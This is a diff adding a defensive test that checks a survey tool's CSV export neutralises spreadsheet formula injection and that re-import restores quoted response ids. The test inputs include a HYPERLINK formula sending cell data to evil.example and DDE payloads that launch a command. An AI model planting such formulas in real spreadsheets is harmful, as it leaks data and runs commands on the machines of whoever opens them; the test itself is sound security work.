@@ -263,6 +263,37 @@ def test_export_import_round_trip(store, tmp_path):
     assert (third.inserted, third.updated, third.unchanged) == (0, 1, 3)
 
 
+def test_export_neutralises_spreadsheet_formulas(tmp_path):
+    """OWASP CSV injection: a comment typed as a formula is shown as text, not run."""
+    demo = generate(seed=5, n_sites=3)
+    cfg = create_project(tmp_path / "p", config=demo_config(demo))
+    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 was my score", "\t=1+2", "\r=1+2",
+                "  =1+1 with spaces in front"]
+    responses = [{"response_id": f"-r{i}" if i == 0 else f"r{i}", "instrument": "community",
+                  "wave": "baseline", "site_id": "S01"} for i in range(len(formulas))]
+    answers = [{"response_id": r["response_id"], "item": "COMMENT", "text": t}
+               for r, t in zip(responses, formulas, strict=True)]
+    batch = Batch.from_records(sites=[{"site_id": "S01", "modality": "coaching"}],
+                               responses=responses, answers=answers)
+    ingest(cfg.store_path, batch, source="test")
+    out = tmp_path / "coding.csv"
+    book = load_codebook(CODEBOOK)
+    export_codes(cfg.store_path, out, codebook=book, scrubber=Scrubber())
+    sheet = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    for column in sheet.columns:
+        for cell in sheet[column]:
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    comments = sorted(sheet["comment"])
+    assert "'=HYPERLINK(" in "".join(comments) and "'+cmd|" in "".join(comments)
+    assert "'-r0" in set(sheet["response_id"])
+    # the coders' sheet imports back: the quote added to a response id is removed again
+    sheet["reviewed"] = "yes"
+    sheet.to_csv(out, index=False, encoding="utf-8-sig", lineterminator="\r\n")
+    assert import_codes(cfg.store_path, out, codebook=book).stored == len(formulas)
+    assert "-r0" in set(corrected_codes(cfg.store_path)["response_id"])
+
+
 def test_import_reports_every_problem_and_changes_nothing(store, tmp_path):
     book = load_codebook(CODEBOOK)
     rid = read_comments(store)["response_id"].iloc[0]
